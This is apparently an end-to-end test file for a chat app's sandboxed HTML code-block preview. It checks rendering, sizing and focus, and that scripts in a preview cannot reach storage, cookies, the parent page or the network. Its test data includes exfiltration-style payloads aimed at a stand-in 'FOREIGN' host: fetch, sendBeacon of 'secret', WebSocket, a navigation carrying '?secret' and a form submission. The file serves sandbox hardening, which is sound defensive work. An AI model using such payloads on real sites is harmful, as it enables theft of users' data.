"""Previews of code blocks: what they show, and that nothing that runs in one gets out of it."""

import json
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager

import pytest
import pytest_asyncio
from playwright.async_api import Browser, FrameLocator, Locator, Page, expect

from tests.e2e.axe import violations
from tests.e2e.browsing import ask, begin, last_answer, new_page, until_true
from tests.e2e.scripted import ScriptedServer, Stream

pytestmark = pytest.mark.asyncio(loop_scope="session")

DOCUMENT = """<!doctype html>
<h1>Counter</h1>
<button onclick="this.textContent = Number(this.textContent) + 1">0</button>
<script>document.querySelector("h1").append(" ready")</script>"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20" height="120"><circle cx="20" cy="10" r="9"/></svg>'
# Runs each attempt, and writes what became of it where the test can read it.
ATTEMPTS = """<p id="said"></p><script>
const results = {};
const timeout = () => new Promise((resolve) => setTimeout(resolve, 20000, "no end"));
const attempt = async (name, act) => {
  try {
    results[name] = String(await Promise.race([act(), timeout()]));
  } catch (error) {
    results[name] = error.name;
  }
};
const failed = (target) => new Promise((resolve) => {
  target.onopen = target.onload = target.onmessage = () => resolve("reached");
  target.onerror = () => resolve("failed");
});
const opened = (request) => new Promise((resolve, reject) => {
  request.onsuccess = () => resolve("opened");
  request.onerror = () => reject(request.error);
});
const loaded = (name, fields) => failed(document.head.appendChild(Object.assign(document.createElement(name), fields)));
const gathered = (connection) => new Promise((resolve) => {
  connection.onicecandidate = ({ candidate }) => candidate || resolve("gathered");
});
const foreign = "FOREIGN";
const xhr = () => {
  const request = new XMLHttpRequest();
  request.open("GET", foreign);
  const end = failed(request);
  request.send();
  return end;
};
const rtc = async () => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] });
  connection.createDataChannel("data");
  const end = gathered(connection);
  await connection.setLocalDescription(await connection.createOffer());
  return end;
};
Promise.all([
  attempt("localStorage", () => localStorage.length),
  attempt("sessionStorage", () => sessionStorage.length),
  attempt("indexedDB", () => opened(indexedDB.open("quire"))),
  attempt("cookie", () => document.cookie),
  attempt("set cookie", () => (document.cookie = "a=1")),
  attempt("parent.document", () => parent.document),
  attempt("top.document", () => top.document),
  attempt("parent.sessionStorage", () => parent.sessionStorage),
  attempt("parent.fetch", () => parent.fetch("/v1/models")),
  attempt("frameElement", () => frameElement),
  attempt("top.location", () => (top.location = foreign)),
  attempt("open", () => open(foreign)),
  attempt("alert", () => alert(1)),
  attempt("fetch", () => fetch(foreign)),
  attempt("fetch of the server", () => fetch("SERVER/v1/models")),
  attempt("XMLHttpRequest", xhr),
  attempt("WebSocket", () => failed(new WebSocket(foreign.replace("http", "ws")))),
  attempt("EventSource", () => failed(new EventSource(foreign))),
  attempt("sendBeacon", () => void navigator.sendBeacon(foreign, "secret")),
  attempt("import", () => import(foreign)),
  attempt("Worker", () => failed(new Worker("data:text/javascript,1"))),
  attempt("image", () => failed(Object.assign(new Image(), { src: foreign }))),
  attempt("script", () => loaded("script", { src: foreign })),
  attempt("style sheet", () => loaded("link", { rel: "stylesheet", href: foreign })),
  attempt("prefetch", () => loaded("link", { rel: "prefetch", href: foreign })),
  attempt("eval", () => eval("1")),
  attempt("RTCPeerConnection", rtc),
]).then(() => (document.querySelector("#said").textContent = JSON.stringify(results)));
</script>"""
# What each comes to. `parent` is another origin's window, which has no such names; a beacon, an open window and a box
# are refused without an error.
OUTCOMES = {
    **dict.fromkeys(["localStorage", "sessionStorage", "indexedDB", "cookie", "set cookie"], "SecurityError"),
    **dict.fromkeys(["parent.document", "top.document", "parent.sessionStorage", "parent.fetch"], "SecurityError"),
    **dict.fromkeys(["frameElement", "open"], "null"),
    **dict.fromkeys(["alert", "sendBeacon"], "undefined"),
    **dict.fromkeys(["XMLHttpRequest", "WebSocket", "EventSource", "Worker"], "failed"),
    **dict.fromkeys(["image", "script", "style sheet", "prefetch"], "failed"),
    **dict.fromkeys(["fetch", "fetch of the server", "import"], "TypeError"),
    "top.location": "SecurityError",
    "eval": "EvalError",
    "RTCPeerConnection": "gathered",
}
# What a parser would load, and hints to prepare a connection.
MARKUP = """<base href="FOREIGN/">
<link rel="preconnect" href="FOREIGN"><link rel="dns-prefetch" href="FOREIGN">
<link rel="preload" as="image" href="FOREIGN/1">
<link rel="modulepreload" href="FOREIGN/2"><link rel="icon" href="FOREIGN/3"><link rel="stylesheet" href="FOREIGN/4">
<style>@import "FOREIGN/5"; @font-face { font-family: f; src: url(FOREIGN/6) }
body { background: url(FOREIGN/7); font: 1em f }</style>
<img src="FOREIGN/8" srcset="FOREIGN/9 2x"><video src="FOREIGN/10" poster="FOREIGN/11" autoplay></video>
<audio src="FOREIGN/12" autoplay></audio><object data="FOREIGN/13"></object><embed src="FOREIGN/14">
<iframe src="FOREIGN/15"></iframe><iframe srcdoc="<img src='FOREIGN/16'><script src='FOREIGN/17'></script>"></iframe>
<iframe src="/"></iframe><svg><image href="FOREIGN/18"/><use href="FOREIGN/19#a"/></svg>
<input type="image" src="FOREIGN/20">
<script type="speculationrules">{"prefetch": [{"urls": ["FOREIGN/21"], "eagerness": "immediate"}]}</script>
<script src="FOREIGN/22"></script><form action="FOREIGN/23"><input name="secret" value="1"></form>
<a id="download" href="data:text/plain,a" download="a.txt">a</a><a id="ping" href="#here" ping="FOREIGN/24">b</a>
<script>
document.forms[0].submit();
document.querySelector("#download").click();
document.querySelector("#ping").click();
onload = () => document.body.append("loaded");
</script>"""
LEAVING = {
    "location": "<script>location = 'FOREIGN/?secret'</script>",
    "location of the server": "<script>location = 'SERVER/v1/models?secret'</script>",
    "meta refresh": "<meta http-equiv='refresh' content='0;url=FOREIGN/?secret'>",
    "link": "<a id='a' href='FOREIGN/?secret'>a</a><script>document.querySelector('#a').click()</script>",
}
STAYING = {
    "top": "<a id='a' target='_top' href='FOREIGN/'>a</a><script>document.querySelector('#a').click()</script>",
    "window": "<a id='a' target='_blank' href='FOREIGN/'>a</a><script>document.querySelector('#a').click()</script>",
    "history": "<script>history.back(); history.go(-1)</script>",
    "messages": "<script>for (let i = 0; i < 1000; i++) parent.postMessage({ t: 'delta', x: 'owned' }, '*')</script>",
    "dialog": "<script>alert(1); confirm(2); prompt(3); print()</script>",
}


# Takes the focus each time that it has lost it, three times.
TAKING = """<input id="taken"><p></p><script>
let numLosses = 0;
addEventListener("blur", () => {
  document.querySelector("p").textContent = `lost it ${++numLosses} times`;
  if (numLosses < 3) setTimeout(() => taken.focus(), 20);
});
setTimeout(() => taken.focus(), 20);
</script>"""


class Foreign:
    """A server of somebody else, which must not be reached by TCP or UDP."""

    def __init__(self, tcp: socket.socket, udp: socket.socket) -> None:
        self.tcp, self.udp = tcp, udp
        self.url = f"http://127.0.0.1:{tcp.getsockname()[1]}"
        self.num_reached = 0

    def count(self) -> None:
        """Count connections until the socket is closed."""
        while True:
            try:
                self.tcp.accept()[0].close()
            except OSError:
                return
            self.num_reached += 1

    @property
    def is_untouched(self) -> bool:
        """Whether neither a connection nor a packet has come."""
        self.udp.setblocking(False)
        try:
            self.udp.recv(1)
        except BlockingIOError:
            return self.num_reached == 0
        return False

    def name_in(self, text: str, server: ScriptedServer) -> str:
        """The text with the addresses of this server and the page's."""
        udp = f"127.0.0.1:{self.udp.getsockname()[1]}"
        return text.replace("FOREIGN", self.url).replace("UDP", udp).replace("SERVER", server.url)


@contextmanager
def listening() -> Iterator[Foreign]:
    with socket.create_server(("127.0.0.1", 0)) as tcp, socket.socket(type=socket.SOCK_DGRAM) as udp:
        udp.bind(("127.0.0.1", 0))
        foreign = Foreign(tcp, udp)
        counting = threading.Thread(target=foreign.count)
        counting.start()
        try:
            yield foreign
        finally:
            tcp.shutdown(socket.SHUT_RDWR)
            counting.join()


@pytest.fixture
def foreign() -> Iterator[Foreign]:
    """A server that nothing may reach."""
    with listening() as foreign:
        yield foreign


@pytest_asyncio.fixture(loop_scope="session")
async def hostile(browser: Browser) -> AsyncIterator[Page]:
    """A page whose console may say what was refused."""
    context, page = await new_page(browser)
    yield page
    await context.close()


def fenced(text: str, language: str = "html") -> str:
    """A text as a code block."""
    return f"```{language}\n{text}\n```\n"


async def answered(page: Page, server: ScriptedServer, text: str) -> Locator:
    """Get this answer; return it."""
    stream: Stream = await begin(page, server)
    await stream.answer(text, size=len(text))
    await expect(last_answer(page)).to_have_attribute("data-state", "done")
    return last_answer(page)


async def previewed(page: Page, server: ScriptedServer, text: str) -> FrameLocator:
    """Get a code block, and open its preview."""
    answer = await answered(page, server, fenced(text))
    await answer.get_by_role("button", name="Preview").click()
    return answer.frame_locator(".preview iframe")


async def test_a_document_is_shown_when_it_is_asked_for_and_its_code_again(page: Page, server: ScriptedServer) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    answer = await answered(page, server, fenced(DOCUMENT))
    assert not [url for url in asked if url.endswith("/preview")]
    switch = answer.get_by_role("button", name="Preview")
    await switch.click()
    await expect(switch).to_have_attribute("aria-pressed", "true")
    await expect(answer.locator("pre")).to_be_hidden()
    shown = answer.frame_locator(".preview iframe")
    await expect(shown.get_by_role("heading")).to_have_text("Counter ready")
    await shown.get_by_role("button").click()
    await expect(shown.get_by_role("button")).to_have_text("1")
    assert await violations(page) == []
    await switch.click()
    await expect(answer.locator("iframe")).to_have_count(0)
    await expect(answer.locator("pre")).to_be_visible()
    await page.reload()
    await expect(last_answer(page).get_by_role("button", name="Preview")).to_have_attribute("aria-pressed", "false")


@pytest.mark.parametrize(
    ("block", "has_preview"),
    [(fenced(SVG, "svg"), True), (fenced(SVG, ""), True), (fenced(f'<?xml version="1.0"?>\n{SVG}', "xml"), True),
     (fenced("<!DOCTYPE html>\n<p>a", "text"), True), (fenced("<p>a", "HTML"), True), (fenced("<p>a", "xml"), False),
     (fenced("print('<html>')", "python"), False), (fenced("<svgs>", ""), False)],
)  # fmt: skip
async def test_html_and_svg_have_a_preview(page: Page, server: ScriptedServer, block: str, has_preview: bool) -> None:
    answer = await answered(page, server, block)
    await expect(answer.locator(".code-bar")).to_be_visible()
    await expect(answer.get_by_role("button", name="Preview")).to_have_count(int(has_preview))


async def test_a_block_has_a_preview_when_it_is_closed(page: Page, server: ScriptedServer) -> None:
    stream = await begin(page, server)
    await stream.delta("```html\n<p>one")
    await expect(last_answer(page).locator(".code-bar")).to_be_visible()
    await stream.delta("</p>\n")
    await expect(last_answer(page).get_by_role("button", name="Preview")).to_have_count(0)
    await stream.delta("```\n\nThat is\n\n")
    switch = last_answer(page).get_by_role("button", name="Preview")
    await switch.click()
    shown = last_answer(page).frame_locator(".preview iframe").locator("p")
    await expect(shown).to_have_text("one")
    await stream.delta("all.\n\nThe end.")
    await stream.done()
    await expect(last_answer(page)).to_have_attribute("data-state", "done")
    await expect(shown).to_have_text("one")


@pytest.mark.parametrize(
    ("height", "least", "most"), [(150, 150, 152), (1, 64, 64), (100_000, 640, 640)], ids=["small", "least", "most"]
)
async def test_a_preview_is_as_high_as_its_document_within_bounds(
    page: Page, server: ScriptedServer, height: int, least: int, most: int
) -> None:
    style = f"<style>body {{ margin: 0 }} p {{ margin: 0; height: {height}px }}</style><p></p>"
    await previewed(page, server, style)
    frame = page.locator(".preview iframe")
    await until_true(frame, f"frame => frame.clientHeight >= {least} && frame.clientHeight <= {most}")


async def test_it_says_that_parts_of_others_are_missing(hostile: Page, server: ScriptedServer) -> None:
    await previewed(hostile, server, "<link rel='stylesheet' href='https://example.com/a.css'><p>a")
    await expect(hostile.locator(".preview p")).to_have_text("Parts of it are missing: a preview has no network.")


async def test_a_frame_that_cannot_be_loaded_leaves_the_code(page: Page, server: ScriptedServer) -> None:
    await page.route("**/preview", lambda route: route.abort())
    answer = await answered(page, server, fenced("<p>a"))
    await answer.get_by_role("button", name="Preview").click()
    await expect(page.locator(".toast")).to_contain_text("could not be loaded")
    await expect(answer.locator("iframe")).to_have_count(0)
    await expect(answer.locator("pre")).to_be_visible()


async def test_what_runs_in_a_preview_reaches_nothing(hostile: Page, server: ScriptedServer, foreign: Foreign) -> None:
    await hostile.context.add_cookies([{"name": "secret", "value": "1", "url": server.url}])
    asked: list[str] = []
    shown = await previewed(hostile, server, foreign.name_in(ATTEMPTS, server))
    hostile.on("request", lambda request: asked.append(request.url))
    await expect(shown.locator("#said")).to_contain_text("RTCPeerConnection")
    assert json.loads(await shown.locator("#said").inner_text()) == OUTCOMES
    assert foreign.is_untouched
    assert hostile.url.startswith(server.url) and await hostile.title() == "Quire"
    assert len(hostile.context.pages) == 1


async def test_what_a_preview_consists_of_loads_nothing(
    hostile: Page, server: ScriptedServer, foreign: Foreign
) -> None:
    downloads: list[object] = []
    hostile.on("download", lambda download: downloads.append(download))
    shown = await previewed(hostile, server, foreign.name_in(MARKUP, server))
    await expect(shown.get_by_text("loaded")).to_be_visible()
    await server.ping()
    assert (foreign.is_untouched, downloads) == (True, [])


@pytest.mark.parametrize("way", LEAVING)
async def test_a_preview_cannot_go_elsewhere(hostile: Page, server: ScriptedServer, foreign: Foreign, way: str) -> None:
    """The frame shows an error of the browser instead, and the page goes on."""
    async with hostile.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
        await previewed(hostile, server, foreign.name_in(LEAVING[way], server))
    assert foreign.is_untouched
    await still_works(hostile, server)


@pytest.mark.parametrize("way", STAYING)
async def test_a_preview_cannot_disturb_the_page(
    hostile: Page, server: ScriptedServer, foreign: Foreign, way: str
) -> None:
    dialogs: list[object] = []
    hostile.on("dialog", lambda dialog: dialogs.append(dialog))
    text = STAYING[way] + "<p>the end</p>"
    shown = await previewed(hostile, server, foreign.name_in(text, server))
    await expect(shown.get_by_text("the end")).to_be_visible()
    await still_works(hostile, server)
    assert (foreign.is_untouched, dialogs, len(hostile.context.pages)) == (True, [], 1)


async def still_works(page: Page, server: ScriptedServer) -> None:
    """The page is the same one, and answers the next question."""
    await ask(page, "And now?")
    stream = await server.next_stream()
    await stream.answer("As before.")
    await expect(last_answer(page).locator(".prose")).to_have_text("As before.")


async def test_a_preview_does_not_take_the_focus_of_a_field_and_gets_it_by_a_click(
    page: Page, server: ScriptedServer
) -> None:
    shown = await previewed(page, server, TAKING)
    field = page.get_by_label("Your question")
    await field.focus()
    await expect(shown.get_by_text("lost it 3 times")).to_be_visible()
    await expect(field).to_be_focused()
    await page.keyboard.type("What I type is mine.")
    await expect(field).to_have_value("What I type is mine.")
    assert await violations(page) == []
    await page.get_by_role("button", name="Use the preview").click()
    await shown.locator("input").click()
    await page.keyboard.type("And this is for it.")
    await expect(shown.locator("input")).to_have_value("And this is for it.")
    await expect(field).to_have_value("What I type is mine.")


async def test_a_preview_gets_the_focus_by_the_tab_key(page: Page, server: ScriptedServer) -> None:
    shown = await previewed(page, server, "<input id='first'>")
    await page.get_by_label("Your question").focus()
    await page.get_by_role("button", name="Copy code").focus()
    await page.keyboard.press("Tab")
    await page.keyboard.type("By keyboard.")
    await expect(shown.locator("input")).to_have_value("By keyboard.")


async def test_the_frame_alone_is_of_no_origin_and_takes_nothing(hostile: Page, server: ScriptedServer) -> None:
    await hostile.goto(f"{server.url}/preview")
    assert await hostile.evaluate("self.origin") == "null"
    assert await hostile.evaluate(
        "() => { try { return localStorage.length } catch (error) { return error.name } }"
    ) == ("SecurityError")
    await hostile.evaluate("postMessage('<p>owned', '*', [new MessageChannel().port1])")
    await hostile.evaluate("new Promise((resolve) => setTimeout(resolve))")
    assert await hostile.locator("p").count() == 0


async def test_no_other_page_can_hold_the_frame(hostile: Page, server: ScriptedServer) -> None:
    async with ScriptedServer().running() as other:
        await hostile.goto(f"{other.url}/readyz")
        async with hostile.expect_event("framenavigated", lambda frame: frame.url.startswith("chrome-error:")):
            await hostile.evaluate(
                "(src) => document.body.append(Object.assign(document.createElement('iframe'), { src }))",
                f"{server.url}/preview",
            )
